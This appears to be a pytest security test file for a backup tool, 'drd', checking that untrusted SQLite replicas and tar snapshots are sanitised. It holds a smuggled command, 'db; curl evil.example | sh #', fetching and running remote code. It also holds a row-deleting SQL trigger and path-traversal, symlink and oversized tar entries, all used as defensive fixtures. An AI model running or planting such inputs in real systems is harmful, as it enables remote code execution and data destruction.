"""drd's own snapshot comes out of a repository in which somebody else may write: a tar with a
SQLite file in it. Of the file only sound values of known tables are taken over, into tables of
drd's own; of the tar only what has the name of a plan, drd.yaml or the replica, and never more than
fits."""

from __future__ import annotations

import io
import json
import sqlite3
import subprocess
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from drd.catalogue import foreign
from drd.catalogue.migrate import make_empty
from drd.catalogue.replica import holds_of, make_ours
from drd.catalogue.sql_catalogue import open_catalogue
from drd.catalogue.version import HEAD
from drd.errors import CatalogueError, DrdError, RepositoryError
from drd.kit import state_snapshots
from drd.kit.former_config import without_broken
from drd.model.plan import OWN_COMPONENT
from tests.fakes_repository import MemoryRepository
from tests.security.forging import own_tar

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)
AT = "2026-11-25T00:00:00.000000+00:00"

RUN = (
    "insert into runs (id, plan, kind, trigger, state, started_at, finished_at, plan_digest, token,"
    f" owner_host, detail) values (?, 'shop', ?, 'schedule', 'succeeded', '{AT}', '{AT}', 'd', 1,"
    " 'old', '{}')"
)
STEP = (
    "insert into steps (run, name, position, kind, state, attempt, started_at, result) values"
    f" (?, 'dump', 1, 'capture', 'succeeded', 1, '{AT}', '{{}}')"
)
HOLD = f"insert into holds (point, plan, reason, held_at) values (?, 'shop', 'audit', '{AT}')"


@pytest.fixture
def replica(tmp_path: Path) -> Path:
    catalogue = open_catalogue(f"sqlite:///{tmp_path}/drd.db", create=True)
    catalogue.export_to(tmp_path / "replica.db")
    catalogue.close()
    with sqlite3.connect(tmp_path / "replica.db") as connection:
        connection.execute(RUN, ("aaaa0000", "backup"))
        connection.execute(STEP, ("aaaa0000",))
        connection.execute(HOLD, ("abcd0123",))
    return tmp_path / "replica.db"


def ask(file: Path, query: str) -> list[tuple[object, ...]]:
    with sqlite3.connect(file) as connection:
        return connection.execute(query).fetchall()


def schema(file: Path) -> set[tuple[object, ...]]:
    return set(ask(file, "select type, name, tbl_name from sqlite_master"))


def test_a_sound_replica_comes_over_whole(replica: Path) -> None:
    assert make_ours(replica, NOW) == 0
    assert ask(replica, "select id from runs") == [("aaaa0000",)]
    assert ask(replica, "select run, name from steps") == [("aaaa0000", "dump")]
    assert [h.point for h in holds_of(replica, "shop")] == ["abcd0123"]
    assert not list(replica.parent.glob("*.fresh*"))


EVIL = "db; curl evil.example | sh #"


def test_names_in_a_replica_are_no_commands(replica: Path) -> None:
    """drd prints `drd skip RUN STEP`, and `drd backup PLAN`, for a person with a shell."""
    with sqlite3.connect(replica) as connection:
        connection.execute(STEP.replace("'dump', 1", "?, 2"), ("aaaa0000", EVIL))
        connection.execute(RUN.replace("'shop', ?", f"'{EVIL}', ?"), ("bbbb0000", "backup"))
        connection.execute(
            "insert into alerts (id, plan, kind, subject, state, since, message, severity, seen_at,"
            " command) values ('a1', 'shop', 'rpo', '', 'firing', ?1, 'late', 'critical', ?1, ?2)",
            (AT, EVIL),
        )
    assert make_ours(replica, NOW) == 3  # the run also has a row in the summary of its plan
    assert ask(replica, "select id from runs") == [("aaaa0000",)]
    assert ask(replica, "select name from steps") == [("dump",)]
    assert ask(replica, "select message, command from alerts") == [("late", "")]


def test_a_replica_of_an_older_drd_is_brought_up_to_date(tmp_path: Path) -> None:
    old = tmp_path / "old.db"
    make_empty(old, "0003")
    with sqlite3.connect(old) as connection:
        connection.execute(RUN, ("aaaa0000", "backup"))
    assert make_ours(old, NOW) == 0
    catalogue = open_catalogue(f"sqlite:///{old}", create=True)
    try:
        assert [r.id for r in catalogue.runs.newest()] == ["aaaa0000"]
    finally:
        catalogue.close()
    assert ask(old, "select version_num from alembic_version") == [(HEAD,)]


def test_a_replicas_schema_is_not_taken(replica: Path, tmp_path: Path) -> None:
    make_empty(tmp_path / "ours.db", HEAD)
    with sqlite3.connect(replica) as connection:
        connection.executescript(
            "create trigger evil after insert on kit_bases begin delete from runs; end;"
            "create view runs_too as select * from runs;"
            "create table more (a, b generated always as (a || 'x') stored);"
            "create index odd on runs (plan || 'x');"
        )
    make_ours(replica, NOW)
    assert schema(replica) == schema(tmp_path / "ours.db")
    with sqlite3.connect(replica) as connection:
        connection.execute("insert into kit_bases values ('shop', ?, 1)", (AT,))
    assert ask(replica, "select id from runs") == [("aaaa0000",)]


VIEW = (
    "create view holds as select 1 id, 'shop' plan, 'abcd0123' point, 'x' reason, '{at}' held_at, "
    "null until, null actor, null released_at"
)


@pytest.mark.parametrize(
    "disguise",
    [
        VIEW,
        (
            "create virtual table holds using fts5(id, plan, point, reason, held_at, until, actor, "
            "released_at)"
        ),
        (
            "create table holds (id, plan, point as ('abcd0123'), reason, held_at, until, actor, "
            "released_at)"
        ),
    ],
)
def test_views_in_a_replica_are_not_read(replica: Path, disguise: str) -> None:
    with sqlite3.connect(replica) as connection:
        connection.execute("drop table holds")
        connection.execute(disguise.format(at=AT))
        if "view" not in disguise:
            connection.execute(
                "insert into holds (id, plan, reason, held_at) values (1, 'shop', 'x', ?)", (AT,)
            )
    assert holds_of(replica, "shop") == []
    make_ours(replica, NOW)
    assert holds_of(replica, "shop") == []


def test_rows_that_drd_never_writes_are_left_out_with_what_hangs_on_them(replica: Path) -> None:
    with sqlite3.connect(replica) as connection:
        connection.execute(RUN, ("bbbb0000", "evil"))
        connection.execute(STEP, ("bbbb0000",))
        connection.execute("update holds set reason = cast(x'ff' as text)")
    assert make_ours(replica, NOW) == 3
    assert ask(replica, "select id from runs") == [("aaaa0000",)]
    assert ask(replica, "select run from steps") == [("aaaa0000",)]
    assert ask(replica, "select * from holds") == []


def test_a_replicas_records_of_root_are_not_taken(replica: Path) -> None:
    with sqlite3.connect(replica) as connection:
        connection.execute("insert into plan_sources values ('shop', 'plan: shop')")
        connection.execute("insert into seals values ('shop', 'abcd0123', 'd', '{}', '{}')")
        connection.execute("insert into kit_bases values ('shop', ?, 1)", (AT,))
    make_ours(replica, NOW)
    for table in ("plan_sources", "seals", "kit_bases"):
        assert ask(replica, f"select * from {table}") == []


def test_rows_without_end_are_refused(replica: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(foreign, "MOST_ROWS", 1)
    with pytest.raises(CatalogueError, match="more than 1 rows"):
        make_ours(replica, NOW)


def test_a_file_that_is_not_a_catalogue_is_refused(tmp_path: Path) -> None:
    for number, version in enumerate(("", "../1", "0000", "1e99")):
        file = tmp_path / f"{number}.db"
        with sqlite3.connect(file) as connection:
            connection.execute("create table alembic_version (version_num)")
            connection.execute("insert into alembic_version values (?)", (version,))
        with pytest.raises(CatalogueError, match="the file is not a catalogue"):
            make_ours(file, NOW)


# The tar around it.

Change = Callable[[tarfile.TarFile], object]


def fetched(tmp_path: Path, archive: bytes) -> state_snapshots.StateSnapshot:
    repository = MemoryRepository()
    repository.initialise()
    tags = ["drd", f"component:{OWN_COMPONENT}"]
    repository.store_bytes(archive, "drd.tar", host="shop", tags=tags)
    found = state_snapshots.newest_own([repository])
    assert found is not None
    return state_snapshots.fetch(*found, tmp_path / "own", NOW)


def add(tar: tarfile.TarFile, name: str, content: bytes = b"", **how: object) -> None:
    entry = tarfile.TarInfo(name)
    entry.size = len(content)
    for key, value in how.items():
        setattr(entry, key, value)
    tar.addfile(entry, io.BytesIO(content))


PLAN = b"plan: shop\n"


def sound(tar: tarfile.TarFile, replica: Path) -> None:
    tar.add(replica, "./drd.db")
    add(tar, "./etc/shop.yaml", PLAN)
    add(tar, "./etc/drd.yaml", b"work_dir: /srv/work\n")


def test_a_sound_tar_gives_all_of_it(tmp_path: Path, replica: Path) -> None:
    found = fetched(tmp_path, own_tar(lambda tar: sound(tar, replica)))
    assert found.catalogue is not None
    assert ask(found.catalogue, "select id from runs") == [("aaaa0000",)]
    assert found.plans == {"shop": "plan: shop\n"}
    assert found.config == "work_dir: /srv/work\n"


@pytest.mark.parametrize(
    ("places", "place"),
    [
        (b'{"drd.yaml": "/opt/acme/drd.yaml"}', "/opt/acme/drd.yaml"),
        (b'{"shop.yaml": "/opt/acme/drd.yaml"}', None),
        (b'{"drd.yaml": "../etc/cron.d/x"}', None),
        (b'["drd.yaml"]', None),
        (b"{", None),
    ],
)
def test_the_former_place_of_drd_yaml_is_a_plain_path_or_unknown(
    tmp_path: Path, replica: Path, places: bytes, place: str | None
) -> None:
    def change(tar: tarfile.TarFile) -> None:
        sound(tar, replica)
        add(tar, "./places.json", places)

    found = fetched(tmp_path, own_tar(change))
    assert found.config_place == place
    assert found.catalogue is not None


@pytest.mark.parametrize(
    ("config", "why"),
    [
        (b"notify:\n  - {kind: exce}\n", '/new/drd.yaml:2: notify[0].kind: unknown kind "exce"'),
        (b"notify: [\n", "is not YAML"),
        (b"state: [1]\n", "/new/drd.yaml:1: state: "),
    ],
)
def test_a_broken_drd_yaml_of_the_lost_host_stops_no_bootstrap(
    tmp_path: Path, replica: Path, config: bytes, why: str
) -> None:
    def change(tar: tarfile.TarFile) -> None:
        tar.add(replica, "./drd.db")
        add(tar, "./etc/shop.yaml", PLAN)
        add(tar, "./etc/drd.yaml", config)

    own, former, [told] = without_broken(fetched(tmp_path, own_tar(change)), "/new/drd.yaml")
    assert (own.config, former) == (None, {"/new/drd.yaml.former": config})
    assert why in told
    assert "drd writes a drd.yaml with the default settings to /new/drd.yaml" in told


def test_a_sound_drd_yaml_of_the_lost_host_stays(tmp_path: Path, replica: Path) -> None:
    found = fetched(tmp_path, own_tar(lambda tar: sound(tar, replica)))
    assert without_broken(found, "/new/drd.yaml") == (found, {}, [])


def test_a_tar_of_the_systems_own_tar_is_read(tmp_path: Path, replica: Path) -> None:
    stage = tmp_path / "stage"
    (stage / "etc").mkdir(parents=True)
    (stage / "drd.db").write_bytes(replica.read_bytes())
    (stage / "etc" / f"{'long-' * 30}.yaml").write_bytes(PLAN)
    command = ["tar", "-C", str(stage), "-cf", "-", "."]
    archive = subprocess.run(command, capture_output=True, check=True).stdout
    found = fetched(tmp_path, archive)
    assert found.catalogue is not None
    assert list(found.plans) == ["shop"]


def test_a_file_with_another_name_or_type_goes_nowhere(tmp_path: Path, replica: Path) -> None:
    secret = tmp_path / "secret.yaml"
    secret.write_bytes(b"plan: secret\n")

    def change(tar: tarfile.TarFile) -> None:
        sound(tar, replica)
        add(tar, "./etc/link.yaml", type=tarfile.SYMTYPE, linkname=str(secret))
        add(tar, "./etc/hard.yaml", type=tarfile.LNKTYPE, linkname="./etc/shop.yaml")
        add(tar, "./etc/../../evil.yaml", b"plan: evil\n")
        add(tar, "./etc/deep/evil.yaml", b"plan: evil\n")
        add(tar, "./etc/name.yaml", b'plan: "../../evil"\n')
        add(tar, "./etc/large.yaml", b"plan: large\n" + b"#" * (1 << 20))
        add(tar, "./other", b"#" * (1 << 20))
        add(tar, "./etc/fifo.yaml", type=tarfile.FIFOTYPE)

    found = fetched(tmp_path, own_tar(change))
    assert list(found.plans) == ["shop"]
    left = {str(p.relative_to(tmp_path / "own")) for p in (tmp_path / "own").rglob("*")}
    assert left == {"drd.db"}
    assert not list(tmp_path.rglob("evil*"))


@pytest.mark.parametrize("mode", ["w:gz", "w:xz", "w:bz2"])
def test_a_compressed_tar_is_refused(tmp_path: Path, replica: Path, mode: str) -> None:
    """A few megabytes of one would fill the disk."""
    with pytest.raises(DrdError, match="cannot be read"):
        fetched(tmp_path, own_tar(lambda tar: sound(tar, replica), mode))


def test_a_header_that_says_it_is_long_is_not_read_into_memory(
    tmp_path: Path, replica: Path
) -> None:
    def change(tar: tarfile.TarFile) -> None:
        sound(tar, replica)
        add(tar, "././@LongLink", b"x" * (5 << 20), type=tarfile.GNUTYPE_LONGNAME)
        add(tar, "./etc/drd.yaml", b"")

    with pytest.raises(DrdError, match="a header of"):
        fetched(tmp_path, own_tar(change))


def test_a_snapshot_without_end_ends(
    tmp_path: Path, replica: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(state_snapshots, "LARGEST", 1 << 20)
    with pytest.raises(RepositoryError):
        fetched(tmp_path, own_tar(lambda tar: add(tar, "./drd.db", bytes(2 << 20))))
    assert not list((tmp_path / "own").iterdir())


def test_numbers_of_files_without_end_end(
    tmp_path: Path, replica: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(state_snapshots, "_MOST_FILES", 2)
    with pytest.raises(DrdError, match="more than 2 files"):
        fetched(tmp_path, own_tar(lambda tar: sound(tar, replica)))


def test_json_in_a_replica_is_what_drd_writes(replica: Path) -> None:
    with sqlite3.connect(replica) as connection:
        deep = json.dumps({"a": 1}) + " garbage"
        connection.execute("update runs set detail = ?", (deep,))
    assert make_ours(replica, NOW) == 2  # the run, and its step
